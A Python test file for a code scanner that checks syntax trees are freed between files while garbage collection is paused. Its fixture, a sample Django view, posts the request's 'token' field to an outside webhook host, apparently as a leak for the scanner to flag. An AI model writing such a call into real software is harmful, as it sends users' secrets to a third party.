"""A scan must free each file's syntax tree as soon as the file is done.

The workers pause the garbage collector while they scan a batch of files (see
`astwalk.paused_gc`), so anything a rule leaves in a reference cycle, such as a recursive
closure over the tree, keeps that whole tree in memory until the batch ends.
"""

from __future__ import annotations

import ast
import gc
import textwrap

from prodready.scan.context import FileContext
from prodready.scan.engine import scan_source

VIEWS = textwrap.dedent(
    """\
    from django.contrib.auth.mixins import LoginRequiredMixin
    from django.views.generic import UpdateView
    import requests

    class OwnedMixin(LoginRequiredMixin):
        def get_queryset(self):
            return super().get_queryset().filter(owner=self.request.user)

    class EditView(OwnedMixin, UpdateView):
        fields = ["title"]

        def post(self, request, *args, **kwargs):
            requests.post("https://hooks.example.com", json={"token": request.POST["token"]})
            return super().post(request, *args, **kwargs)
    """
)


def test_a_scanned_files_tree_is_freed_when_the_next_file_is_scanned() -> None:
    gc.collect()
    was_enabled = gc.isenabled()
    gc.disable()
    gc.set_debug(gc.DEBUG_SAVEALL)
    try:
        first = scan_source("app/views.py", VIEWS.encode())
        second = scan_source("app/other_views.py", VIEWS.encode())
        contexts = sum(isinstance(o, FileContext) for o in gc.get_objects())
        gc.collect()
        in_cycles = [o for o in gc.garbage if isinstance(o, ast.AST)]
    finally:
        gc.set_debug(0)
        gc.garbage.clear()
        if was_enabled:
            gc.enable()
    assert first.hits and second.hits  # the rules did run over the views
    assert contexts <= 1  # at most the file the rules were last on
    assert in_cycles == []
